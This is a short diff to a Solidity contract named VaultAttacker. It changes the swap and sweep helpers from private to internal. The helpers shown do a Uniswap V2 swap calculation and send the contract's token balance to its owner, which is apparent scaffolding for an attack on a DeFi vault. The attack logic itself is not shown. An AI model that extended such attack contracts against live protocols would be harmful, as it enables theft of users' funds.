@@ -92,7 +92,7 @@ contract VaultAttacker {
         }
     }
 
-    function _swap(IUniswapV2Pair pair, bool zeroForOne, IERC20 tokenIn, uint256 amountIn) private returns (uint256 out) {
+    function _swap(IUniswapV2Pair pair, bool zeroForOne, IERC20 tokenIn, uint256 amountIn) internal returns (uint256 out) {
         (uint112 reserve0, uint112 reserve1,) = pair.getReserves();
         (uint256 reserveIn, uint256 reserveOut) = zeroForOne ? (uint256(reserve0), uint256(reserve1)) : (uint256(reserve1), uint256(reserve0));
         uint256 amountInWithFee = amountIn * 997;
@@ -106,7 +106,7 @@ contract VaultAttacker {
         if (!token.approve(spender, type(uint256).max)) revert TransferFailed(address(token));
     }
 
-    function _sweep(IERC20 token) private {
+    function _sweep(IERC20 token) internal {
         uint256 balance = token.balanceOf(address(this));
         if (balance > 0 && !token.transfer(owner, balance)) revert TransferFailed(address(token));
     }
